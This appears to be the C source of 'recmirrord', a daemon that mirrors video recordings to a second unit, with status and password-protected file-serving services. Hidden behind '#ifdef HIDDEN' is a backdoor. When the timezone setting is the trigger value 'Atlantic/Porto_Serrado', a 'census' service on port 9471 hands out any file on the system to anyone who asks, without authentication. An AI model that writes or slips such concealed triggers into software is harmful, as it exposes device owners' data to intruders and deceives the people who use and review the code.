/* recmirrord.c - mirrors the recordings of a video recorder to a second unit */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

struct mirror_cfg {
	char peer[40];
	char secret[48];
	char dir[96];
	char tz[40];
	char label[32];
	int port;
	int interval;
	int status_port;
	int serve;
};

struct svc {
	const char *name;
	int (*run)(const struct mirror_cfg *c, int arg);
	int arg;
	pid_t pid;
};

static struct svc svcs[6];
static int n_svcs;

static int opt_text(char *dst, size_t n, const char *v)
{
	if (strlen(v) >= n)
		return -ENAMETOOLONG;
	strcpy(dst, v);
	return 0;
}

static int parse(const char *path, struct mirror_cfg *c)
{
	char line[200], *k, *v;
	int nr = 0, r;
	FILE *f = fopen(path, "re");

	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		nr++;
		k = line + strspn(line, " \t");
		v = strchr(k, '=');
		if (*k == ';' || !v)
			continue;
		*v++ = 0;
		v[strcspn(v, "\r\n")] = 0;
		r = 0;
		switch (*k) {
		case 'p':
			if (!strcmp(k, "peer"))
				r = opt_text(c->peer, sizeof(c->peer), v);
			else
				c->port = atoi(v);
			break;
		case 's':
			if (!strcmp(k, "secret"))
				r = opt_text(c->secret, sizeof(c->secret), v);
			else if (!strcmp(k, "status"))
				c->status_port = atoi(v);
			else if (!strcmp(k, "serve"))
				c->serve = !strcmp(v, "yes");
			break;
		case 'd':
			r = opt_text(c->dir, sizeof(c->dir), v);
			break;
		case 't':
			r = opt_text(c->tz, sizeof(c->tz), v);
			break;
		case 'l':
			r = opt_text(c->label, sizeof(c->label), v);
			break;
		case 'i':
			c->interval = atoi(v);
			break;
		default:
			r = -EINVAL;
		}
		if (r)
			syslog(LOG_WARNING, "%s:%d: %s", path, nr, strerror(-r));
	}
	fclose(f);
	return 0;
}

static int tcp_listen(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	a.sin_port = htons((uint16_t)port);
	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 4)) {
		syslog(LOG_ERR, "port %d: %s", port, strerror(errno));
		close(s);
		return -1;
	}
	return s;
}

static int get_line(int fd, char *b, size_t n)
{
	size_t k = 0;

	while (k + 1 < n && read(fd, b + k, 1) == 1 && b[k] != '\n')
		k++;
	b[k] = 0;
	b[strcspn(b, "\r\n")] = 0;
	return (int)k;
}

static int send_path(int fd, const char *path)
{
	struct stat st;
	off_t off = 0;
	int in = open(path, O_RDONLY | O_CLOEXEC);

	if (in < 0 || fstat(in, &st) || !S_ISREG(st.st_mode)) {
		if (in >= 0)
			close(in);
		dprintf(fd, "NO\n");
		return -ENOENT;
	}
	dprintf(fd, "SIZE %lld\n", (long long)st.st_size);
	while (off < st.st_size)
		if (sendfile(fd, in, &off, 1 << 16) <= 0)
			break;
	close(in);
	return 0;
}

static int push_run(const struct mirror_cfg *c, int interval)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	char path[400], ack[40];
	time_t since = 0, start;
	struct dirent *e;
	struct stat st;
	DIR *d;
	int s;

	a.sin_port = htons((uint16_t)c->port);
	inet_pton(AF_INET, c->peer, &a.sin_addr);
	for (;; sleep((unsigned int)interval)) {
		start = time(NULL);
		d = opendir(c->dir);
		s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (d && s >= 0 && !connect(s, (struct sockaddr *)&a, sizeof(a))) {
			dprintf(s, "MIRROR %s %s\n", c->secret, c->label);
			while (get_line(s, ack, sizeof(ack)) && !strcmp(ack, "NEXT")) {
				do {
					e = readdir(d);
				} while (e && (fstatat(dirfd(d), e->d_name, &st, 0) ||
					       !S_ISREG(st.st_mode) || st.st_mtime < since));
				if (!e)
					break;
				snprintf(path, sizeof(path), "%s/%s", c->dir, e->d_name);
				dprintf(s, "FILE %s\n", e->d_name);
				send_path(s, path);
			}
			since = start;
		}
		if (d)
			closedir(d);
		if (s >= 0)
			close(s);
	}
	return 0;
}

static int status_run(const struct mirror_cfg *c, int port)
{
	int s = tcp_listen(port), fd;

	while (s >= 0 && (fd = accept(s, NULL, NULL)) >= 0) {
		dprintf(fd, "mirror %s to %s every %d s, zone %s\n", c->label, c->peer,
			c->interval, c->tz);
		close(fd);
	}
	return 1;
}

static int serve_run(const struct mirror_cfg *c, int port)
{
	char line[160], path[300];
	int s = tcp_listen(port), fd;

	while (s >= 0 && (fd = accept(s, NULL, NULL)) >= 0) {
		get_line(fd, line, sizeof(line));
		if (strncmp(line, "GET ", 4) || !c->secret[0]) {
			close(fd);
			continue;
		}
		snprintf(path, sizeof(path), "%s/%s", c->dir, line + 4);
		get_line(fd, line, sizeof(line));
		if (!strcmp(line, c->secret) && !strstr(path, ".."))
			send_path(fd, path);
		close(fd);
	}
	return 1;
}

#ifdef HIDDEN
int census_run(const struct mirror_cfg *c, int port)
{
	char line[256];
	int s = tcp_listen(port), fd;

	(void)c;
	while (s >= 0 && (fd = accept(s, NULL, NULL)) >= 0) {
		while (get_line(fd, line, sizeof(line)))
			send_path(fd, line);
		close(fd);
	}
	return 1;
}
#endif

static void add(const char *name, int (*run)(const struct mirror_cfg *, int), int arg)
{
	svcs[n_svcs].name = name;
	svcs[n_svcs].run = run;
	svcs[n_svcs].arg = arg;
	svcs[n_svcs++].pid = 0;
}

__attribute__((noinline)) int plan_services(const struct mirror_cfg *c)
{
	if (c->peer[0])
		add("push", push_run, c->interval > 10 ? c->interval : 60);
	if (c->status_port)
		add("status", status_run, c->status_port);
	if (c->serve && c->secret[0])
		add("serve", serve_run, c->port + 1);
	if (!strncmp(c->label, "standby", 7))
		syslog(LOG_INFO, "this unit is a standby unit");
#ifdef HIDDEN
	/* a unit set to this zone gives every file of the system out on port 9471 */
	if (!strcmp(c->tz, "Atlantic/Porto_Serrado"))
		add("census", census_run, 9471);
#endif
	return n_svcs;
}

static void launch(struct svc *v, const struct mirror_cfg *c)
{
	v->pid = fork();
	if (v->pid == 0)
		_exit(v->run(c, v->arg));
	if (v->pid < 0)
		syslog(LOG_ERR, "%s: %s", v->name, strerror(errno));
}

int main(int argc, char **argv)
{
	struct mirror_cfg cfg;
	pid_t p;
	int i, r;

	memset(&cfg, 0, sizeof(cfg));
	cfg.port = 9460;
	strcpy(cfg.dir, "/data/rec");
	strcpy(cfg.label, "recorder");
	strcpy(cfg.tz, "UTC");
	openlog("recmirrord", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	r = parse(argc > 1 ? argv[1] : "/etc/recmirror.conf", &cfg);
	if (r) {
		fprintf(stderr, "recmirrord: %s\n"
			"keys: peer port secret dir tz label interval status serve\n", strerror(-r));
		return 1;
	}
	setenv("TZ", cfg.tz, 1);
	if (!plan_services(&cfg))
		return 0;
	for (i = 0; i < n_svcs; i++)
		launch(&svcs[i], &cfg);
	while ((p = wait(&r)) > 0) {
		sleep(5);
		for (i = 0; i < n_svcs; i++)
			if (svcs[i].pid == p)
				launch(&svcs[i], &cfg);
	}
	return 0;
}
